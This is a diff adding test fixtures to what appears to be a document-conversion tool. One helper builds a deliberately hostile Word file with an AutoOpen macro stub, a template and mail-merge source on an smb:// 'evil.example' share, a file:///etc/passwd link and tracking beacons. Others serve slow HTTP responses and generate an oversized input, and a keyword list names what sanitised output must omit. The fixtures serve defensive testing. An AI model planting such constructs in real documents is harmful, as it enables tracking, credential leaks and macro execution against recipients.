@@ -151,3 +151,132 @@ def require(program: str) -> str:
 
 PACKAGES = {"pdftotext": "poppler-utils", "pdftoppm": "poppler-utils", "qpdf": "qpdf",
             "libreoffice": "libreoffice-writer-nogui", "chromium": "chromium", "java": "default-jre-headless"}
+
+
+HOSTILE = ("vbaProject", "evil", "customXml", "glossary", "odttf", "file:", "smb:", "beacon", "docProps/custom",
+           "thumbnail", "header9", "SELECT")  # what nothing built from `hostile_reference` may hold
+
+
+def hostile_reference(path: Path) -> Path:
+    """The shipped reference.docx, restyled (Heading 1 at 22 pt) as a colleague would, and made
+    hostile: macros, an unknown part, custom XML and custom properties, a glossary, an embedded
+    font, an attached template and a mail merge on a file share, a linked beacon in the theme, a
+    header with a first-page variant and a linked picture, hyperlinks and an OLE object to
+    file:// and smb:// addresses."""
+    import zipfile
+
+    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+    def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
+        mode = ' TargetMode="External"' if external else ""
+        return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
+
+    with zipfile.ZipFile(REPO / "templates" / "reference.docx") as shipped:
+        parts = {name: shipped.read(name) for name in shipped.namelist()}
+    styles = parts["word/styles.xml"].decode()
+    heading = styles.index('w:styleId="Heading1"')
+    size = styles.index('<w:sz w:val="', heading)
+    parts["word/styles.xml"] = (styles[:size] + '<w:sz w:val="44"/><w:szCs w:val="44"' +
+                                styles[styles.index("/>", styles.index("<w:szCs", size)):]).encode()
+    document_rels = parts["word/_rels/document.xml.rels"].decode().replace("</Relationships>", "".join([
+        rel("rId90", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
+        rel("rId91", "http://example.org/evil", "evil.bin"),
+        rel("rId92", f"{office}/hyperlink", "smb://evil.example/share/loot", True),
+        rel("rId93", f"{office}/oleObject", "file:///etc/passwd", True),
+        rel("rId94", f"{office}/header", "header9.xml"),
+        rel("rId95", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/glossaryDocument",
+            "glossary/document.xml"),
+    ]) + "</Relationships>")
+    parts["word/_rels/document.xml.rels"] = document_rels.encode()
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"evil\" Sub AutoOpen() Shell \"calc\""
+    parts["word/evil.bin"] = b"evil payload"
+    parts["word/glossary/document.xml"] = b'<w:glossaryDocument xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
+    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="' + office + '"'
+    parts["word/header9.xml"] = (f'<w:hdr {w} xmlns:v="urn:schemas-microsoft-com:vml"><w:p><w:r><w:pict><v:imagedata '
+                                 'r:id="rId1"/></w:pict></w:r></w:p></w:hdr>').encode()
+    parts["word/_rels/header9.xml.rels"] = (f'<Relationships xmlns="{rels}">' + rel(
+        "rId1", f"{office}/image", "http://beacon.example/pixel.png", True) + "</Relationships>").encode()
+    document = parts["word/document.xml"].decode()
+    parts["word/document.xml"] = document.replace("<w:body>", '<w:body><w:p><w:hyperlink r:id="rId92"><w:r><w:t>evil'
+                                                  "</w:t></w:r></w:hyperlink></w:p>").replace(
+        "<w:pgSz", '<w:headerReference w:type="first" r:id="rId94"/><w:titlePg/><w:pgSz').encode()
+    settings = parts["word/settings.xml"].decode()
+    parts["word/settings.xml"] = settings.replace("<w:zoom", (
+        '<w:writeProtection w:recommended="1"/><w:attachedTemplate r:id="rId1"/><w:linkStyles/>'
+        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
+        '<w:connectString w:val="Provider=evil"/><w:query w:val="SELECT * FROM loot"/>'
+        '<w:dataSource r:id="rId2"/></w:mailMerge><w:zoom')).encode()
+    parts["word/_rels/settings.xml.rels"] = (f'<Relationships xmlns="{rels}">' + "".join([
+        rel("rId1", f"{office}/attachedTemplate", "file:///\\\\evil.example\\share\\evil.dotm", True),
+        rel("rId2", f"{office}/mailMergeSource", "smb://evil.example/share/loot.mdb", True),
+    ]) + "</Relationships>").encode()
+    parts["word/_rels/theme/theme1.xml.rels"] = (f'<Relationships xmlns="{rels}">' + rel(
+        "rId1", f"{office}/image", "http://beacon.example/theme.png", True) + "</Relationships>").encode()
+    theme = parts["word/theme/theme1.xml"].decode()
+    end = theme.index("</a:fmtScheme>")
+    parts["word/theme/theme1.xml"] = (theme[:end] + f'<a:bgFillStyleLst xmlns:r="{office}"><a:blipFill><a:blip '
+                                      'r:link="rId1"/></a:blipFill></a:bgFillStyleLst>' + theme[end:]).encode() \
+        if "<a:bgFillStyleLst" not in theme else theme.replace(
+            "<a:bgFillStyleLst>", f'<a:bgFillStyleLst><a:blipFill xmlns:r="{office}"><a:blip r:link="rId1"/></a:blipFill>', 1).encode()
+    fonts = parts["word/fontTable.xml"].decode()
+    parts["word/fontTable.xml"] = fonts.replace("</w:font>", '<w:embedRegular r:id="rId1" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>', 1).encode()
+    parts["word/_rels/fontTable.xml.rels"] = (f'<Relationships xmlns="{rels}">' + rel(
+        "rId1", f"{office}/font", "fonts/font1.odttf") + "</Relationships>").encode()
+    parts["word/fonts/font1.odttf"] = b"evil font"
+    parts["docProps/custom.xml"] = b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"/>'
+    parts["_rels/.rels"] = parts["_rels/.rels"].decode().replace("</Relationships>", rel(
+        "rId9", f"{office}/custom-properties", "docProps/custom.xml") + "</Relationships>").encode()
+    types = parts["[Content_Types].xml"].decode().replace("</Types>", (
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+        '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
+        '<Override PartName="/word/header9.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+        'wordprocessingml.header+xml"/></Types>'))
+    parts["[Content_Types].xml"] = types.encode()
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
+        for name, data in parts.items():
+            package.writestr(name, data)
+    return path
+
+
+def trickle(handler, in_headers: bool, seconds: float = 0.2, limit: int = 600) -> None:
+    """Answer an http.server request slowly: a byte every `seconds`, in the body of a page (or in
+    its headers), for up to `limit` bytes, or until the client goes away."""
+    import time
+
+    try:
+        if in_headers:
+            handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nX-Slow: ")
+        else:
+            handler.send_response(200)
+            handler.send_header("Content-Type", "text/html")
+            handler.send_header("Content-Length", str(limit))
+            handler.end_headers()
+        for _ in range(limit):
+            handler.wfile.write(b"x")
+            time.sleep(seconds)
+    except OSError:  # the client gave up
+        pass
+
+
+NEEDLE = "la commission mixte publiera le niveau du lac chaque mois"  # in the middle of `one_long_sentence`
+
+
+def one_long_sentence(size: int = 1_600_000) -> str:
+    """A line of `size` characters that never ends a sentence (words, commas, no full stop),
+    with `NEEDLE` in its middle: an article of one sentence, as a bad extraction gives."""
+    import random
+
+    pick = random.Random(1).choice
+    vocabulary = [word for word in ("le président a reçu son homologue à Moscou pour parler des accords signés sur "
+                                    "l’énergie et la sécurité du pays avec ses partenaires, selon les sources du "
+                                    "ministère qui évoquent une coopération renforcée dans la région").split()]
+    words: list[str] = []
+    length = 0
+    while length < size:
+        words.append(pick(vocabulary))
+        length += len(words[-1]) + 1
+        if len(words) == 130_000:
+            words.append(NEEDLE)
+    return " ".join(words)
